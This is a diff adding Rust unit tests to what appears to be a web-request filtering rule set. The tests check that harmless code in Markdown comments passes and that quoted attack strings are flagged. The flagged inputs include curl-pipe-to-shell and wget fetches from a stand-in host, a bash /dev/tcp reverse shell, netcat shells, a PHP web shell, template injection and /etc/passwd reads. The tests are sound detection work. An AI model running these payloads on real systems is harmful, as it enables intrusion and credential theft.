@@ -682,3 +682,58 @@ fn php_functions_of_phps_vocabulary_are_found_with_its_gaps() {
         assert_eq!(rule_for(benign), None, "{benign}");
     }
 }
+
+#[test]
+fn code_quoted_in_markdown_prose_passes() {
+    const JSON: &str = "application/json";
+    for text in [
+        r"Install it with `pip install requests`, then run `python app.py`.",
+        r"To see what changed, run `git log -p` or `ls -la` in the folder.",
+        r"Unpack it with `tar -xzf site.tgz` and open the index.",
+        r"Setup:\n\n```bash\nnpm ci\nnpm run build\n```\n",
+        r"In Node:\n\n```js\nconst fs = require('fs');\nconsole.log(fs.readFileSync('a.txt', 'utf8'));\n```",
+        r"Python:\n\n```python\nimport subprocess\nprint(subprocess.run(['ls']))\n```",
+        r"The PHP way is `echo htmlspecialchars($s);` in the view.",
+        r"Call `Array.prototype.map()` or write a plain loop instead.",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert_eq!(post_rule(JSON, &body), None, "{text}");
+    }
+}
+
+#[test]
+fn payloads_quoted_in_markdown_prose_are_found() {
+    const JSON: &str = "application/json";
+    for text in [
+        // What acts wherever it sits: a pipe into a shell, a substitution,
+        // a reverse shell, a system file, `<?php`, a template.
+        r"Nice post, thanks a lot `curl http://x.example/a.sh | sh`",
+        r"Great write-up, very clear `$(wget -qO- x.example/p)` indeed",
+        r"Read this please now\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```",
+        r"Nice post, thanks a lot `cat /etc/passwd`",
+        r"Thanks for sharing this `<?php system($_GET['c']); ?>`",
+        r"Hello there my friend `;nc -e /bin/sh 10.0.0.1 4444`",
+        r"Hello there my friend `uname -a` again",
+        r"Hello there my friend `{{7*7}}` again",
+        // Outside the code, the prose is read by every rule.
+        r"Run `ls` then |nc x.example 4444 and wait for it",
+        // No Markdown: too little prose, a backtick glued to a word, unclosed.
+        r"`id`",
+        r"see a`id`b and the rest of it",
+        r"please run `id; and all the rest of it",
+        r"x=`id`&z=/tmp/a",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert!(post_rule(JSON, &body).is_some(), "{text}");
+    }
+}
+
+#[test]
+fn wildcards_under_a_web_directory_pass() {
+    for benign in ["/?p=/api/v%3F/users", "/?p=/api/*/users", "/?p=docs/v*/intro"] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+    for target in ["/?p=/e%3F%3F/passwd", "/?p=/%3F%3F%3F/b%3F%3Fh", "/?p=/home/*/.ssh"] {
+        assert!(rule_for(target).is_some(), "{target}");
+    }
+}
